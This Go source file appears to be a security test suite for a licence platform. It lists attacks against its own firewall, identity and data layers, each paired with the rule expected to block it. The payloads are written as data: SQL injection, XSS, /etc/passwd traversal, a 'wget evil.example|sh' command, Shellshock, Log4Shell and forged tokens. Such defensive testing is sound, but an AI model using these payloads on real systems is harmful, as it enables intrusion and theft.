package attack

import (
	"crypto/tls"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/coditect-ai/license-platform/local/report/layer"
)

// All are the attacks, from the outside in, and then what has to pass.
func All() []Attack {
	return slices.Concat(insideAttacks(), Moves(), thefts(), impersonations(), Escapes(), ideRequests(), customers())
}

// Outside are the attacks that do not start in a pod.
func Outside() []Attack { return slices.Concat(insideAttacks(), ideRequests(), customers()) }

func insideAttacks() []Attack {
	return slices.Concat(injections(), floods(), forgedIdentities(), dishonestCustomers(), intruders())
}

// query is an attack in the query of a public address.
func query(text string) Try { return web(Request{Query: text}) }

// header is an attack in a header.
func header(name, value string) Try { return web(Request{Header: map[string]string{name: value}}) }

// injections are what a web application firewall is for.
func injections() []Attack {
	acquire := func(body string) Try {
		return web(Request{Method: http.MethodPost, Path: "/v1/licenses/{license}/acquire", Body: body, Bearer: bearer(Identity{})})
	}
	return []Attack{
		{"SQL injection in the query", layer.CloudArmor, "waf-sqli", query("id=1%27%20UNION%20SELECT%20password%20FROM%20users--")},
		{"SQL injection in a JSON body", layer.CloudArmor, "waf-sqli", acquire(`{"device": "x' UNION SELECT password FROM users--"}`)},
		{"SQL injection in a cookie", layer.CloudArmor, "waf-sqli", header("Cookie", "session=1' OR 1=1 UNION SELECT password FROM users--")},
		{"SQL injection in the Referer", layer.CloudArmor, "waf-sqli", header("Referer", "x' UNION SELECT password FROM users--")},
		{"SQL injection by JSON operators", layer.CloudArmor, "waf-sqli", query(`id=1%20OR%20JSON_EXTRACT(%27%7B%22a%22:1%7D%27,%27$.a%27)=1`)},
		{"script in the query", layer.CloudArmor, "waf-xss", query("q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")},
		{"script in a JSON body", layer.CloudArmor, "waf-xss", acquire(`{"device": "<img src=x onerror=alert(1)>"}`)},
		{"script in the Referer", layer.CloudArmor, "waf-xss", header("Referer", "<script>alert(1)</script>")},
		{"local file in the query", layer.CloudArmor, "waf-lfi", query("file=../../../../etc/passwd")},
		{"path traversal, encoded", layer.CloudArmor, "waf-lfi", web(Request{Path: "/v1/..%2f..%2f..%2fetc/passwd"})},
		{"remote file in the query", layer.CloudArmor, "waf-rfi", query("page=http://203.0.113.5/shell.txt%3f")},
		{"shell command in the query", layer.CloudArmor, "waf-rce", query("q=%3Bwget%20-O-%20evil.example%7Csh")},
		{"shell command by Shellshock", layer.CloudArmor, "waf-rce", header("User-Agent", "() { :; }; /bin/bash -c id")},
		{"PHP code in the query", layer.CloudArmor, "waf-php", query("q=%3C%3Fphp%20phpinfo()%3B")},
		{"Java lookup of Log4Shell", layer.CloudArmor, "waf-java", header("User-Agent", "${jndi:ldap://evil.example/a}")},
		{"Java class loader of Spring4Shell", layer.CloudArmor, "waf-java", query("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
		{"Node.js prototype in the query", layer.CloudArmor, "waf-generic", query("__proto__%5Badmin%5D=1")},
		{"header injection", layer.CloudArmor, "waf-protocolattack", query("q=x%0d%0aSet-Cookie:%20admin=1")},
		{"session fixation", layer.CloudArmor, "waf-sessionfixation", web(Request{
			Query: "jsessionid=0123456789", Header: map[string]string{"Referer": "https://evil.example/"},
		})},
		{"scanner", layer.CloudArmor, "waf-scannerdetection", header("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")},
		{"method that is never used", layer.CloudArmor, "waf-methodenforcement", web(Request{Method: http.MethodTrace})},
	}
}

// floods are too much, or from where nobody is expected.
func floods() []Attack {
	return []Attack{
		{"client in a region not listed", layer.CloudArmor, "deny-regions", web(Request{Region: "KP"})},
		{"client in an unknown region", layer.CloudArmor, "deny-regions", web(Request{Region: "-"})},
		{"flood from one address", layer.CloudArmor, "rate-limit", flood},
		{"flood of heartbeats with invented leases", layer.CloudArmor, "keep-seats", inventedLeases},
		{"TLS 1.1", layer.Network, "TLS policy", oldTLS(tls.VersionTLS11)},
		{"TLS without forward secrecy", layer.Network, "TLS policy", oldTLS(tls.VersionTLS12, tls.TLS_RSA_WITH_AES_128_GCM_SHA256)},
	}
}

// forgedIdentities are requests with forged tokens and credentials.
func forgedIdentities() []Attack {
	as := func(token func(Identity) Identity) Try {
		return web(Request{Method: http.MethodPost, Path: "/v1/licenses/{license}/acquire", Body: `{"fingerprint": "impostor"}`, Bearer: bearer(token(Identity{}))})
	}
	forged := func(r Request) Try {
		r.Method, r.Path, r.Body = http.MethodPost, "/v1/licenses/{license}/acquire", `{"fingerprint": "forger"}`
		return web(r)
	}
	return []Attack{
		{"no token", layer.Identity, "missing_auth", forged(Request{})},
		{"expired token", layer.Identity, "invalid_token", as(func(i Identity) Identity { i.TTL = -time.Hour; return i })},
		{"token without a signature (alg none)", layer.Identity, "invalid_token", forged(Request{Bearer: unsigned})},
		{"token with changed claims", layer.Identity, "invalid_token", forged(Request{Bearer: tampered})},
		{"token signed with a key of one's own", layer.Identity, "invalid_token", forged(Request{Bearer: foreignKey})},
		{"token signed with the public key (HS256)", layer.Identity, "invalid_token", forged(Request{Bearer: publicSecret})},
		{"service credential that was made up", layer.Identity, "invalid_token", forged(Request{Bearer: inventedCredential})},
		{"token of another project", layer.Identity, "invalid_token", as(func(i Identity) Identity { i.Project, i.Tenant = "another-project", "-"; return i })},
		{"token without a tenant", layer.Identity, "missing_tenant", as(func(i Identity) Identity { i.Tenant = "-"; return i })},
		{"token of a tenant without an account", layer.Identity, "unknown_tenant", as(func(i Identity) Identity { i.Tenant = "strangers"; return i })},
		{"web page of a foreign origin", layer.Identity, "cross_origin_refused", forged(Request{
			Bearer: bearer(Identity{}), Header: map[string]string{"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
		})},
	}
}

// dishonestCustomers are customers who want more than is theirs.
func dishonestCustomers() []Attack {
	thief, victim, colleague := Identity{User: "thief"}, Identity{Tenant: rival, User: "victim"}, Identity{Tenant: rival, User: "thief"}
	take := func(path string, who Identity) Try {
		return web(Request{Method: http.MethodPost, Path: path, Body: `{"fingerprint": "thief"}`, Bearer: bearer(who)})
	}
	return []Attack{
		{"another tenant's licence", layer.Data, "license_not_found", take("/v1/licenses/{rival}/acquire", thief)},
		{"another tenant's lease, kept alive", layer.Data, "lease_not_found", stolenLease(victim, thief, "heartbeat")},
		{"another tenant's lease, ended", layer.Data, "lease_not_found", stolenLease(victim, thief, "release")},
		{"another user's lease, ended", layer.Identity, "not_lease_holder", stolenLease(victim, colleague, "release")},
		{"administration without the role", layer.Identity, "forbidden", web(Request{Path: "/v1/audit", Bearer: bearer(thief)})},
		{"race for the last seat", layer.Data, "no_seats_available", seatRace},
		{"body of 100 KiB", layer.Identity, "body_too_large", web(Request{
			Method: http.MethodPost, Path: "/v1/licenses/{license}/acquire", Bearer: bearer(thief), Body: `{"fingerprint": "` + strings.Repeat("a", 100<<10) + `"}`,
		})},
	}
}

// intruders are inside the network, or want to look there.
func intruders() []Attack {
	return []Attack{
		{"metrics through the load balancer", layer.Identity, "not_found", web(Request{Path: "/metrics", Bearer: bearer(Identity{})})},
		{"Redis in plain text", layer.Data, "TLS only", redis(false, "PING")},
		{"Redis without AUTH", layer.Data, "NOAUTH", redis(true, "KEYS *")},
		{"Redis with a guessed password", layer.Data, "WRONGPASS", redis(true, "AUTH guessed")},
		{"PostgreSQL without TLS", layer.Data, "28000", sql(false, "license-api")},
		{"PostgreSQL with a guessed password", layer.Data, "28P01", sql(true, "license-api")},
		{"PostgreSQL as superuser", layer.Data, "28", sql(true, "postgres")},
		{"Cloud SQL's proxy without a certificate", layer.Data, "certificate only", proxyWithoutCertificate},
		{"certificate of Cloud SQL's with a made-up token", layer.Data, "UNAUTHENTICATED", certificateFor("coditect-cloud-infra", "stores")},
		{"KMS in plain text", layer.Data, "TLS only", sign(false, nobody)},
		{"KMS without a token", layer.Data, "Unauthenticated", sign(true, nobody)},
		{"KMS with a made-up token", layer.Data, "Unauthenticated", sign(true, guesser)},
	}
}

// ideRequests are requests to the Cloud IDE, which none of the rules concern.
func ideRequests() []Attack {
	const injection = "id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
	return []Attack{
		{"Cloud IDE: SQL injection passes", Nobody, "", web(Request{Host: ide, Path: "/", Query: injection})},
		{"Cloud IDE: its default backend answers for a host of nobody's", Nobody, "", web(Request{Host: "evil.example", Path: "/"})},
		{"Cloud IDE: scanner passes", Nobody, "", web(Request{Host: ide, Path: "/", Header: map[string]string{"User-Agent": "sqlmap/1.8"}})},
		{"Cloud IDE: client from anywhere passes", Nobody, "", web(Request{Host: ide, Path: "/", Region: "KP"})},
	}
}
